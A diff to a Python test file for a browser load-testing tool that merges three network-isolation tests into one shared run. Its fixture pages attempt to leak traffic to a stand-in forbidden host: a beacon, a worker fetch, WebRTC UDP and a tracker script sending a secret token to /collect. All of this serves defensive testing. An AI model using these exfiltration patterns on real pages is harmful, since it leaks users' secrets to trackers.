@@ -1,6 +1,7 @@
 """Browser users that cannot lie (issue 28), with Debian's real headless Chromium: traffic outside
 `allowed_hosts` never leaves, layout shifts while the next page loads count, and a page view the run's
-end cut short is no sample. Each test serves its own pages from a small server on loopback."""
+end cut short is no sample. Each test serves its own pages from a small server on loopback; the three tests of
+traffic outside `allowed_hosts` read one run, a browser user each."""
 
 from __future__ import annotations
 
@@ -9,6 +10,7 @@ import socket
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
+from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
@@ -129,56 +131,9 @@ def forbidden_host() -> Iterator[tuple[str, list[str]]]:
         listener.close()
 
 
-def test_no_request_reaches_a_host_outside_allowed_hosts_and_each_attempt_is_listed(project: Project) -> None:
-    with forbidden_host() as (far, reached):
-        page = LEAKY.format(far=f"http://{far}", ws=f"ws://{far}")
-        routes = {
-            "/leaky": html(page),
-            "/next": html(f"<p id='next'>next</p><script>addEventListener('pagehide', () => "
-                          f"navigator.sendBeacon('http://{far}/beacon', 'bye'));</script>"),
-            "/worker.js": lambda _: (200, "text/javascript", f"fetch('http://{far}/worker')".encode()),
-        }
-        with serve(routes) as host:
-            profile = "allowed_hosts: [127.0.0.1]\nload: {users: 1, duration: 8s}\n"
-            code, doc, out = run(project, host, LEAKY_SCENARIO, profile)
-    assert reached == [], reached  # not one connection, not even a handshake
-    blocked = doc["browser"]["blocked"]
-    paths = {b["url"].split(far, 1)[1] for b in blocked if far in b["url"]}
-    # the image, the frame, the WebSocket handshake, the EventSource, the worker's fetch, the popup, the
-    # link's ping and the beacon sent at pagehide: each listed, with the page it came from
-    assert paths == {"/img.gif", "/frame", "/ws", "/events", "/worker", "/popup", "/ping", "/beacon"}, blocked
-    assert {b["page"] for b in blocked} == {"leaky"}, blocked
-    assert doc["browser"]["failed_steps"] == 0, doc["browser"]["failures"]
-    network = next(c for c in doc["checks"] if c["name"] == "browser network")
-    assert network["verdict"] == "fail" and far in network["message"]
-    assert code == 1, out
-
-
-RTC = """
-<script>
-  // STUN and TURN over UDP to the forbidden host: datagrams a SOCKS rail cannot carry nor refuse
-  const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{far}'}},
-    {{urls: 'turn:{far}?transport=udp', username: 'u', credential: 'c'}}]}});
-  pc.createDataChannel('x');
-  pc.createOffer().then(o => pc.setLocalDescription(o)).then(() => fetch('/offered'));
-</script>
-"""
-RTC_SCENARIO = """
-name: rtc
-users:
-  - {name: api, think_time: 1, requests: [{name: health, path: /health}]}
-browsers:
-  - name: caller
-    pages: 1
-    think_time: 3
-    journey:
-      - {visit: /rtc, name: rtc}
-"""
-
-
-def test_webrtc_sends_no_udp_to_a_host_outside_allowed_hosts(project: Project) -> None:
-    """A page's RTCPeerConnection gathers candidates from a STUN/TURN server on 127.0.0.2 (UDP): not one
-    datagram leaves (WebRTC's non-proxied UDP is disabled in the profile every page context inherits)."""
+@contextmanager
+def udp_listener() -> Iterator[tuple[str, list[str]]]:
+    """A UDP socket on 127.0.0.2 that records every datagram sent to it."""
     udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     udp.bind(("127.0.0.2", 0))
     udp.settimeout(0.2)
@@ -198,23 +153,22 @@ def test_webrtc_sends_no_udp_to_a_host_outside_allowed_hosts(project: Project) -
     thread = threading.Thread(target=receive, daemon=True)
     thread.start()
     try:
-        offered: list[str] = []
-        routes = {
-            "/rtc": html(RTC.format(far=f"127.0.0.2:{udp.getsockname()[1]}")),
-            "/offered": lambda h: (offered.append(h.path), (200, "text/plain", b"ok"))[1],
-        }
-        with serve(routes) as host:
-            profile = "allowed_hosts: [127.0.0.1]\nload: {users: 1, duration: 10s}\n"
-            _, doc, out = run(project, host, RTC_SCENARIO, profile)
+        yield f"127.0.0.2:{udp.getsockname()[1]}", received
     finally:
         stop.set()
         thread.join(timeout=5)
         udp.close()
-    assert doc["browser"]["failed_steps"] == 0, doc["browser"]["failures"]
-    assert offered, out  # the offer was made: candidates were gathered
-    assert received == [], received
 
 
+RTC = """
+<script>
+  // STUN and TURN over UDP to the forbidden host: datagrams a SOCKS rail cannot carry nor refuse
+  const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{far}'}},
+    {{urls: 'turn:{far}?transport=udp', username: 'u', credential: 'c'}}]}});
+  pc.createDataChannel('x');
+  pc.createOffer().then(o => pc.setLocalDescription(o)).then(() => fetch('/offered'));
+</script>
+"""
 TRACKER = """
 <p id="acct">account</p>
 <script>
@@ -224,26 +178,103 @@ TRACKER = """
   fetch(base + 'p'.repeat(290 - base.length - 3) + '&t=' + token, {{mode: 'no-cors'}}).catch(() => {{}});
 </script>
 """
+# one run, three browser users, each a page trying its way out once (one journey each, then the run ends): every
+# kind of request (visitor), WebRTC's UDP (caller), a tracker sent the page's secret (account)
+GUARDED_SCENARIO = LEAKY_SCENARIO.replace("name: leaky\n", "name: guarded\n") + """\
+  - name: caller
+    pages: 1
+    think_time: 3
+    journey:
+      - {visit: /rtc, name: rtc}
+  - name: account
+    pages: 1
+    think_time: 3
+    journey:
+      - {visit: "/acct?token=${TOK}", name: acct}
+"""
+SECRET = "CANARYtok-9f3e1b7c2d"
 
 
-def test_a_secret_in_a_blocked_url_leaves_no_prefix_at_the_cut(project: Project) -> None:
+@dataclass
+class Guarded:
+    code: int
+    doc: dict[str, Any]
+    out: str
+    err: str
+    far: str  # the TCP host outside allowed_hosts
+    reached: list[str]  # connections it got
+    received: list[str]  # datagrams the UDP host outside allowed_hosts got
+    offered: list[str]  # the RTC page's offers made (its candidates were gathered)
+    project: Project
+
+
+@pytest.fixture(scope="module")
+def guarded(tmp_path_factory: pytest.TempPathFactory) -> Guarded:
+    project = Project(tmp_path_factory.mktemp("guarded"))
+    offered: list[str] = []
+    with forbidden_host() as (far, reached), udp_listener() as (udp_far, received):
+        routes = {
+            "/leaky": html(LEAKY.format(far=f"http://{far}", ws=f"ws://{far}")),
+            "/next": html(f"<p id='next'>next</p><script>addEventListener('pagehide', () => "
+                          f"navigator.sendBeacon('http://{far}/beacon', 'bye'));</script>"),
+            "/worker.js": lambda _: (200, "text/javascript", f"fetch('http://{far}/worker')".encode()),
+            "/rtc": html(RTC.format(far=udp_far)),
+            "/offered": lambda h: _noted(offered, h.path),
+            "/acct": html(TRACKER.format(far=far)),
+        }
+        with serve(routes) as host:
+            project.write("scenarios/s.yaml", GUARDED_SCENARIO)
+            project.write("profiles/p.yaml", f"scenario: ../scenarios/s.yaml\nhost: {host}\nmin_samples: 1\n"
+                          "allowed_hosts: [127.0.0.1]\nsecrets: [TOK]\nload: {users: 1, iterations: 1}\n")
+            result = project.run("run", "p", "--out", "o", timeout=180, env={"TOK": SECRET})
+    assert_no_traceback(result)
+    assert (project.root / "o" / "results.json").exists(), result.out + result.err
+    return Guarded(result.code, project.results("o"), result.out, result.err, far, list(reached), list(received),
+                   list(offered), project)
+
+
+def _noted(seen: list[str], path: str) -> tuple[int, str, bytes]:
+    seen.append(path)
+    return 200, "text/plain", b"ok"
+
+
+def _blocked(run: Guarded, page: str) -> list[dict[str, Any]]:
+    return [b for b in run.doc["browser"]["blocked"] if b["page"] == page]
+
+
+def test_no_request_reaches_a_host_outside_allowed_hosts_and_each_attempt_is_listed(guarded: Guarded) -> None:
+    assert guarded.reached == [], guarded.reached  # not one connection, not even a handshake
+    blocked, far = guarded.doc["browser"]["blocked"], guarded.far
+    paths = {b["url"].split(far, 1)[1] for b in _blocked(guarded, "leaky") if far in b["url"]}
+    # the image, the frame, the WebSocket handshake, the EventSource, the worker's fetch, the popup, the
+    # link's ping and the beacon sent at pagehide: each listed, with the page it came from
+    assert paths == {"/img.gif", "/frame", "/ws", "/events", "/worker", "/popup", "/ping", "/beacon"}, blocked
+    # the only other page that sent a request outside: the account page's tracker
+    assert {b["page"] for b in blocked} == {"leaky", "acct"}, blocked
+    assert all("/collect?p=" in b["url"] for b in _blocked(guarded, "acct")), blocked
+    assert guarded.doc["browser"]["failed_steps"] == 0, guarded.doc["browser"]["failures"]
+    network = next(c for c in guarded.doc["checks"] if c["name"] == "browser network")
+    assert network["verdict"] == "fail" and far in network["message"]
+    assert guarded.code == 1, guarded.out + guarded.err
+
+
+def test_webrtc_sends_no_udp_to_a_host_outside_allowed_hosts(guarded: Guarded) -> None:
+    """A page's RTCPeerConnection gathers candidates from a STUN/TURN server on 127.0.0.2 (UDP): not one
+    datagram leaves (WebRTC's non-proxied UDP is disabled in the profile every page context inherits)."""
+    assert guarded.doc["browser"]["failed_steps"] == 0, guarded.doc["browser"]["failures"]
+    assert guarded.offered, guarded.out + guarded.err  # the offer was made: candidates were gathered
+    assert guarded.received == [], guarded.received
+
+
+def test_a_secret_in_a_blocked_url_leaves_no_prefix_at_the_cut(guarded: Guarded) -> None:
     """A page visited with a declared secret in its query sends it to a tracker outside allowed_hosts: the
     blocked URL, cut at 300 characters right inside the secret, keeps neither the secret nor a prefix of it."""
-    secret = "CANARYtok-9f3e1b7c2d"
-    with forbidden_host() as (far, reached), serve({"/acct": html(TRACKER.format(far=far))}) as host:
-        scenario = RTC_SCENARIO.replace("/rtc, name: rtc", "\"/acct?token=${TOK}\", name: acct")
-        project.write("scenarios/s.yaml", scenario)
-        project.write("profiles/p.yaml", f"scenario: ../scenarios/s.yaml\nhost: {host}\nmin_samples: 1\n"
-                      "allowed_hosts: [127.0.0.1]\nsecrets: [TOK]\nload: {users: 1, duration: 6s}\n")
-        result = project.run("run", "p", "--out", "o", timeout=180, env={"TOK": secret})
-    assert_no_traceback(result)
-    assert reached == [], reached
-    assert (project.root / "o" / "results.json").exists(), result.err
-    doc = project.results("o")
-    assert any("/collect?p=ppp" in b["url"] for b in doc["browser"]["blocked"]), doc["browser"]  # exercised
-    names = sorted(p.name for p in (project.root / "o").iterdir() if p.is_file())
-    for text, where in [(result.out, "stdout"), (result.err, "stderr")] + [
-        ((project.root / "o" / n).read_text(), n) for n in names
+    assert guarded.reached == [], guarded.reached
+    assert any("/collect?p=ppp" in b["url"] for b in _blocked(guarded, "acct")), guarded.doc["browser"]  # exercised
+    out = guarded.project.root / "o"
+    names = sorted(p.name for p in out.iterdir() if p.is_file())
+    for text, where in [(guarded.out, "stdout"), (guarded.err, "stderr")] + [
+        ((out / n).read_text(), n) for n in names
     ]:
         assert "CANARY" not in text and "&t=C" not in text, where
 
@@ -317,7 +348,7 @@ def test_layout_shifts_while_the_next_page_loads_count(project: Project) -> None
         "/slow": nxt.slow,
     }
     with serve(routes) as host:
-        code, doc, out = run(project, host, SHIFT_SCENARIO, "load: {users: 1, duration: 12s}\n")
+        code, doc, out = run(project, host, SHIFT_SCENARIO, "load: {users: 1, iterations: 1}\n")
     assert nxt.shifted >= 1, "the article never shifted: the test did not exercise the case"
     cls = next(t for t in doc["thresholds"] if t["selector"] == "browser_web_vital_cls{page:article}")
     # the shift happened after the next navigation started, before it committed: it is the article's CLS
